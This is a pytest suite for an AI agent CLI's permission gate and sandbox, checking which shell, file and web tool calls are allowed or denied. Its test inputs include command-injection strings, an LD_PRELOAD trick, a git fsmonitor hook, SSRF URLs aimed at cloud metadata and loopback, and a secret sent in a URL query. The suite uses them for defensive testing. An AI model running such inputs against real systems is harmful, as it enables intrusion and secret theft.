"""What runs without a question now, and beside each such call what still does not happen. Nobody is there to approve.

Each scenario is one start of the real CLI. The first list ran; of the second nothing may be seen on the disk.
"""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import subprocess
import sys
from collections.abc import AsyncIterator, Sequence
from pathlib import Path
from typing import Any

import pytest

from leadrope import errors, events

needs_sandbox = pytest.mark.skipif(
    shutil.which("bwrap") is None and os.environ.get("CI", "").lower() != "true", reason="bubblewrap is not installed"
)
SANDBOX = [pytest.param("off", id="no sandbox"), pytest.param("workspace", id="sandbox", marks=needs_sandbox)]


def bash(command: str, **more: Any) -> dict[str, Any]:
    return {"tool": {"name": "Bash", "input": {"command": command, "description": "try", **more}}}


def write(path: Path, content: str = "x") -> dict[str, Any]:
    return {"tool": {"name": "Write", "input": {"file_path": str(path), "content": content}}}


async def decisions(stage: Any, calls: Sequence[dict[str, Any]], **fields: Any) -> list[tuple[str, str]]:
    """What the gate said about each call in turn, with the rule."""
    played = await stage.play([*calls, {"text": "done"}], **fields)
    assert played.result.outcome in ("succeeded", "denied"), played.result
    return [(found.decision, found.rule) for found in played.of(events.ToolDecided)]


@pytest.fixture
def repository(stage: Any) -> Path:
    """A git repository with a file, a CI folder and a folder that the policy blocks."""
    ws: Path = stage.ws
    (ws / "README.md").write_text("hello\n")
    (ws / ".github" / "workflows").mkdir(parents=True)
    (ws / ".github" / "workflows" / "ci.yml").write_text("on: push\n")
    (ws / "secrets").mkdir()
    (ws / "secrets" / "key").write_text("the-secret-text\n")
    git = ["git", "-c", "user.name=a", "-c", "user.email=a@example.com", "-C", str(ws)]
    subprocess.run([*git[:1], "init", "-q", str(ws)], check=True)
    subprocess.run([*git, "add", "README.md"], check=True)
    subprocess.run([*git, "commit", "-qm", "one"], check=True)
    return ws


@pytest.mark.parametrize("sandbox", SANDBOX)
@pytest.mark.parametrize("mode", ["plan", "default", "edit", "dontAsk"])
async def test_reading_commands_run_in_every_mode_and_only_read(
    stage: Any, repository: Path, mode: str, sandbox: str
) -> None:
    reads = ["cat README.md", "git log --oneline -1", "ls -la | head -3", "grep -rn hello README.md"]
    others = [
        "cat README.md > made",
        "ls $(touch made)",
        "git diff --output=made",
        "find . -name README.md -delete",
        "sort -o made README.md",
        "./cat README.md",
        "LD_PRELOAD=./x.so ls",
        "cat README.md; touch made",
    ]
    (repository / "cat").write_text("#!/bin/sh\ntouch made\n")
    (repository / "cat").chmod(0o755)
    found = await decisions(stage, [bash(line) for line in (*reads, *others)], mode=mode, sandbox=sandbox)
    assert [decision for decision, _ in found[: len(reads)]] == ["allow"] * len(reads), found
    assert [decision for decision, _ in found[len(reads) :]] == ["deny"] * len(others), found
    assert not (repository / "made").exists()
    assert (repository / "README.md").exists()


async def test_a_reading_git_command_starts_nothing_that_its_settings_name(stage: Any, repository: Path) -> None:
    made = repository / "made"
    (repository / "monitor.sh").write_text(f"#!/bin/sh\ntouch {made}\n")
    (repository / "monitor.sh").chmod(0o755)
    with (repository / ".git" / "config").open("a") as settings:
        settings.write("[core]\n\tfsmonitor = ./monitor.sh\n")
    found = await decisions(stage, [bash("git status"), bash("cat README.md")], mode="edit", sandbox="off")
    assert [decision for decision, _ in found] == ["deny", "allow"]
    assert not made.exists()


async def test_a_reading_command_does_not_read_what_is_blocked(stage: Any, repository: Path) -> None:
    lines = [
        "cat secrets/key",
        "cat < secrets/key",
        "cat secr?ts/key",
        "cat sec{rets,x}/key",
        "cd secrets && cat key",
        "grep -r text .",
    ]
    calls = [bash(line) for line in lines]
    played = await stage.play(
        [*calls, {"text": "done", "expect": {"lacks": "the-secret-text"}}],
        mode="plan",
        sandbox="off",
        policy={"blocked_paths": ["secrets/"]},
    )
    assert {found.decision for found in played.of(events.ToolDecided)} == {"deny"}
    assert "the-secret-text" not in str(played.events)


INLINE = """python3 - <<'END'
import pathlib, subprocess
def attempt(work):
    try:
        print(work())
    except Exception as error:
        print(type(error).__name__)
attempt(lambda: pathlib.Path("made-inside").write_text("yes"))
attempt(lambda: pathlib.Path({outside!r}).write_text("no"))
attempt(lambda: pathlib.Path(".github/workflows/ci.yml").write_text("no"))
attempt(lambda: pathlib.Path("secrets/key").read_text())
attempt(lambda: subprocess.run(["unlink", "README.md"], check=True))
END"""


@needs_sandbox
@pytest.mark.parametrize("mode", ["full", "sandboxed"])
async def test_in_a_sandbox_a_program_runs_unasked_and_does_only_what_the_sandbox_allows(
    stage: Any, repository: Path, mode: str
) -> None:
    outside = stage.home / "outside"
    calls = [
        bash(INLINE.format(outside=str(outside))),
        bash("sh ./missing.sh; gradle test; echo ran >> made-by-line"),
        bash("rm README.md"),
        bash("git push origin main"),
        bash("unlink README.md"),
    ]
    played = await stage.play(
        [*calls, {"text": "done", "expect": {"lacks": "the-secret-text"}}],
        mode=mode,
        policy={"blocked_paths": ["secrets/"], "blocked_commands": ["unlink"]},
    )
    assert [found.decision for found in played.of(events.ToolDecided)] == ["allow", "allow", "deny", "deny", "deny"]
    assert (repository / "made-inside").read_text() == "yes"
    assert not outside.exists()
    assert (repository / ".github" / "workflows" / "ci.yml").read_text() == "on: push\n"
    assert (repository / "README.md").exists()
    assert "the-secret-text" not in str(played.events)


@needs_sandbox
async def test_what_cannot_be_read_is_asked_about_in_full_and_runs_in_sandboxed(stage: Any, repository: Path) -> None:
    line = "x=touch; $x made"
    assert [found for found, _ in await decisions(stage, [bash(line)], mode="full")] == ["deny"]
    assert not (repository / "made").exists()
    assert [found for found, _ in await decisions(stage, [bash(line)], mode="sandboxed")] == ["allow"]
    assert (repository / "made").exists()


@needs_sandbox
async def test_what_the_users_policy_lets_the_sandbox_hold_runs_in_full(stage: Any, repository: Path) -> None:
    config = stage.home / ".config" / "leadrope" / "config.toml"
    config.parent.mkdir(parents=True)
    config.write_text('[policy]\nopaque = "sandbox"\n')
    outside = stage.home / "outside"
    found = await decisions(stage, [bash(f"x=touch; $x made; $x {outside}")], mode="full")
    assert [decision for decision, _ in found] == ["allow"]
    assert (repository / "made").exists()
    assert not outside.exists()


@pytest.fixture
async def listener() -> AsyncIterator[tuple[int, list[bytes]]]:
    """A service of this machine, which no web tool may reach."""
    heard: list[bytes] = []

    async def hear(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        heard.append(await reader.read(200))
        writer.close()

    server = await asyncio.start_server(hear, "127.0.0.1", 0)
    async with server:
        yield server.sockets[0].getsockname()[1], heard


@needs_sandbox
async def test_sandboxed_asks_to_leave(stage: Any, repository: Path, listener: tuple[int, list[bytes]]) -> None:
    port, heard = listener
    outside = stage.home / "outside"
    ask = f"import socket; socket.create_connection(('127.0.0.1', {port}), 5).send(b'x')"
    calls = [
        write(repository / "made"),
        write(outside),
        write(repository / ".envrc"),
        bash(f'python3 -c "{ask}" || true'),
        bash(f"echo x > {outside} || true"),
    ]
    found = await decisions(stage, calls, mode="sandboxed")
    assert [decision for decision, _ in found] == ["allow", "deny", "deny", "allow", "allow"]
    assert (repository / "made").exists()
    assert not outside.exists()
    assert not (repository / ".envrc").exists()
    assert heard == []


@pytest.mark.parametrize("sandbox", ["off"])
async def test_sandboxed_is_refused_where_no_sandbox_holds(stage: Any, sandbox: str) -> None:
    with pytest.raises(errors.LeadropeError, match="sandboxed") as refused:
        await stage.play([], mode="sandboxed", sandbox=sandbox)
    assert "edit" in str(refused.value.hint)


@pytest.mark.parametrize("sandbox", SANDBOX)
async def test_a_grant_covers_its_pattern_and_nothing_else(stage: Any, repository: Path, sandbox: str) -> None:
    (repository / "Makefile").write_text("test:\n\t@echo run >> made\n")
    lines = ["make test", "make test && touch other", "make test > other", "touch other", "rm README.md"]
    found = await decisions(
        stage, [bash(line) for line in lines], mode="edit", sandbox=sandbox, allow=("Bash(make test *)", "Bash(rm *)")
    )
    assert [decision for decision, _ in found] == ["allow", "deny", "deny", "deny", "deny"]
    assert (repository / "made").read_text() == "run\n"
    assert not (repository / "other").exists()
    assert (repository / "README.md").exists()


async def test_a_pattern_in_tools_grants_a_program_that_is_not_known_here(stage: Any, repository: Path) -> None:
    tool = stage.home / "bin" / "mytool"
    tool.parent.mkdir()
    tool.write_text('#!/bin/sh\necho "$@" >> made\n')
    tool.chmod(0o755)
    stage.environ["PATH"] = f"{tool.parent}:{stage.environ['PATH']}"
    found = await decisions(
        stage,
        [bash("mytool test"), bash("mytool deploy")],
        mode="default",
        sandbox="off",
        tools=("Bash(mytool test)",),
    )
    assert [decision for decision, _ in found] == ["allow", "deny"]
    assert (repository / "made").read_text() == "test\n"


@pytest.mark.parametrize("mode", ["plan", "default", "edit", "full", "dontAsk"])
async def test_the_web_is_open_but_for_this_machine_and_its_network(
    stage: Any, listener: tuple[int, list[bytes]], mode: str
) -> None:
    port, heard = listener
    urls = [
        f"http://127.0.0.1:{port}/",
        f"http://localhost:{port}/",
        f"http://[::ffff:127.0.0.1]:{port}/",
        f"http://2130706433:{port}/",
        "http://169.254.169.254/latest/meta-data/",
        "file:///etc/passwd",
    ]
    calls = [{"tool": {"name": "WebFetch", "input": {"url": url, "prompt": "read"}}} for url in urls]
    found = await decisions(stage, calls, mode=mode, sandbox="off")
    assert [decision for decision, _ in found] == ["deny"] * len(urls)
    assert {rule for _, rule in found} == {"web"}
    assert heard == []


async def test_an_address_or_a_search_with_a_known_secret_is_denied(stage: Any) -> None:
    """No such host exists: nothing leaves this machine whatever the gate says."""
    secret = "hunter2hunter2"
    inputs = [
        ("WebFetch", {"url": f"https://a.invalid/?q={secret}", "prompt": "read"}),
        ("WebSearch", {"query": f"what is {secret}"}),
    ]
    calls = [{"tool": {"name": name, "input": input_}} for name, input_ in inputs]
    played = await stage.play(
        [*calls, {"text": "done"}], mode="full", sandbox="off", variables={"A": secret}, secret_variables=("A",)
    )
    found = played.of(events.ToolDecided)
    assert [(decided.decision, decided.rule) for decided in found] == [("deny", "web")] * 2
    assert all("secret" in decided.reason for decided in found)


async def _has_own_network() -> bool:
    tried = await asyncio.create_subprocess_exec(*OWN_NETWORK, "true", stderr=asyncio.subprocess.DEVNULL)
    return await tried.wait() == 0


OWN_NETWORK = ("unshare", "--net") if hasattr(os, "geteuid") and os.geteuid() == 0 else ("unshare", "--net", "-r")
PUBLIC_ON_LOOPBACK = Path(__file__).parents[1] / "data" / "public_on_loopback.py"


@needs_sandbox
async def test_sandboxed_fetches_a_public_page_while_commands_have_to_ask(claude: str, tmp_path: Path) -> None:
    """In a network of its own, where public addresses are this machine's."""
    if not await _has_own_network():
        pytest.skip("this machine gives no network namespace")
    words = (*OWN_NETWORK, sys.executable, str(PUBLIC_ON_LOOPBACK), claude, str(tmp_path))
    process = await asyncio.create_subprocess_exec(*words, stdout=asyncio.subprocess.PIPE)
    async with asyncio.timeout(60):
        out, _ = await process.communicate()
    found = json.loads(out)
    first, second = ({"host": f"93.184.216.{last}", "port": 80} for last in (34, 35))
    assert found["outcome"] == "succeeded"
    assert found["asked"] == [first, second], "WebFetch is not asked about; each host that a command wants is, once"
    assert found["decided"] == [
        ["WebFetch", "allow"],
        ["Bash", "allow"],
        ["Network", "deny"],
        ["Bash", "allow"],
        ["Network", "allow"],
    ]
    assert found["reached"] == ["93.184.216.34:443", "93.184.216.35:80"], "the page that was fetched is not a command's"
    assert (tmp_path / "ws" / "tokens").read_text() == "0\n"
    assert "not an allowed address" in (tmp_path / "ws" / "first").read_text()
    assert (tmp_path / "ws" / "second").read_text() == "ok"


@pytest.mark.parametrize("sandbox", SANDBOX)
async def test_a_version_is_a_read_unless_a_file_of_the_project_chooses_the_program(
    stage: Any, repository: Path, tmp_path: Path, sandbox: str
) -> None:
    """The programs start what the project names, as those of rustup and asdf do."""
    shim = '#!/bin/sh\nif [ -x ./evil ]; then ./evil; else echo "$0 1.0"; fi\n'
    tools, shims = tmp_path / "tools" / "bin", tmp_path / ".asdf" / "shims"
    for path in (tools / "cargo", tools / "go", shims / "node"):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(shim)
        path.chmod(0o755)
    stage.environ["PATH"] = f"{tools}:{shims}:{stage.environ['PATH']}"
    reads = [bash(line) for line in ("cargo --version", "go version", "git --version", "cd sub && cargo -V")]
    others = [bash(line) for line in ("cargo --version > made", "node --version", "cd ../pinned && cargo --version")]
    (repository / "sub").mkdir()
    (repository / "pinned").mkdir()
    (repository / "pinned" / "rust-toolchain.toml").write_text('[toolchain]\npath = "."\n')
    for place in (repository, repository / "pinned"):
        (place / "evil").write_text(f"#!/bin/sh\ntouch {repository}/made\n")
    (repository / "pinned" / "evil").chmod(0o755)
    found = await decisions(stage, [*reads, *others], mode="plan", sandbox=sandbox)
    assert [decision for decision, _ in found] == ["allow"] * len(reads) + ["deny"] * len(others), found
    (repository / "evil").chmod(0o755)
    (repository / "rust-toolchain").write_text("../evil\n")
    assert [decision for decision, _ in await decisions(stage, [reads[0]], mode="plan", sandbox=sandbox)] == ["deny"]
    assert not (repository / "made").exists()
